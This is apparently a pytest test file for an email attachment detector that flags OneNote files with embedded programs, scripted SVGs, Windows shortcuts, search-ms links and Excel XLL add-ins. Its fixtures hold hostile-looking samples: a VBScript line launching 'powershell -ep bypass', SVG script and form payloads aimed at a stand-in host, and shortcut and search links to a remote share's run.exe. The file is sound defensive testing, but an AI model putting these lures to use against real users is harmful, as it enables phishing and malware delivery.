"""DocumentDetector on OneNote, SVG, Windows shortcuts and Excel add-ins."""

from __future__ import annotations

from helpers_detectors import PNG_BYTES, attachment, by_symbol, make_message, pe_bytes, run
from test_detectors_documents_samples import ONENOTE_MAGIC, dll, onenote

from mailward.detectors.documents import DocumentDetector
from mailward.model import Attachment, Finding

LNK_HEADER = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
SVG_PLAIN = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<rect width="10" height="10" fill="#c00"/><text x="1" y="8">logo</text></svg>'
)


def findings(*atts: Attachment) -> dict[str, Finding]:
    detector = DocumentDetector(DocumentDetector.Settings())
    return by_symbol(run(detector, make_message(attachments=atts)))


def test_onenote_with_embedded_program_is_full_strength() -> None:
    hit = findings(attachment("invoice.one", onenote(b"\x89PNG....", pe_bytes())))["DOC_ONENOTE"]
    assert hit.factor == 1.0
    assert "Windows program" in hit.explanation


def test_onenote_with_embedded_script_is_full_strength() -> None:
    script = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -ep bypass -c x"\r\n'
    assert findings(attachment("notes.one", onenote(script)))["DOC_ONENOTE"].factor == 1.0


def test_onenote_with_only_a_picture_is_weaker_and_bare_notebook_weaker_still() -> None:
    picture = findings(attachment("notes.one", onenote(PNG_BYTES)))["DOC_ONENOTE"]
    bare = findings(attachment("notes.one", onenote()))["DOC_ONENOTE"]
    assert 0 < bare.factor < picture.factor < 1.0


def test_onenote_guid_not_at_offset_zero_misses() -> None:
    assert findings(attachment("data.bin", b"\0" * 16 + ONENOTE_MAGIC + bytes(64))) == {}


def test_svg_with_script_event_handler_or_foreign_html_hits() -> None:
    for body in (
        b"<script>location.href='https://x.example/'</script>",
        b'<rect width="1" height="1" onload="fetch(1)"/>',
        b'<foreignObject width="9" height="9"><html xmlns="http://www.w3.org/1999/xhtml">'
        b"<body><form action='https://x.example/'></form></body></html></foreignObject>",
    ):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + body + b"</svg>"
        assert "DOC_SVG_SCRIPT" in findings(attachment("logo.svg", svg)), body


def test_plain_svg_misses() -> None:
    assert findings(attachment("logo.svg", SVG_PLAIN)) == {}


def test_lnk_by_magic_hits_under_any_name() -> None:
    assert "DOC_SHORTCUT" in findings(attachment("photo.jpg", LNK_HEADER))


def test_shortcut_files_are_left_to_windows_types_and_search_links_in_html_hit() -> None:
    # .url / .library-ms files are ATT_SHELL_SHORTCUT / ATT_WEB_SHORTCUT now
    # (tests/detectors/test_detectors_windows_types.py): one fact, one symbol.
    share = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"
    library = (
        b'<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription '
        b'xmlns="http://schemas.microsoft.com/windows/2009/library"><name>Docs</name>'
        b"</libraryDescription>"
    )
    search = (
        b'<html><a href="search-ms:query=invoice&crumb=location:\\\\198.51.100.7\\s">x</a></html>'
    )
    assert "DOC_SHORTCUT" not in findings(attachment("doc.url", share))
    assert "DOC_SHORTCUT" not in findings(attachment("Docs.library-ms", library))
    hit = findings(attachment("open.html", search))["DOC_SHORTCUT"]
    assert "198.51.100.7" in hit.evidence[0]


def test_text_mentioning_shortcuts_misses() -> None:
    text = b"Please save the link as a shortcut ([InternetShortcut] files) on your desktop.\n"
    assert findings(attachment("howto.txt", text)) == {}


def test_dll_exporting_xlautoopen_is_an_xll_and_other_dll_is_not() -> None:
    found = findings(attachment("report.xll", dll("xlAutoOpen", "xlAutoClose")))
    assert found["DOC_XLL"].evidence == ("xlAutoClose", "xlAutoOpen")
    assert "DOC_XLL" not in findings(attachment("helper.dll", dll("DllRegisterServer")))
    assert "DOC_XLL" not in findings(attachment("tool.exe", pe_bytes()))
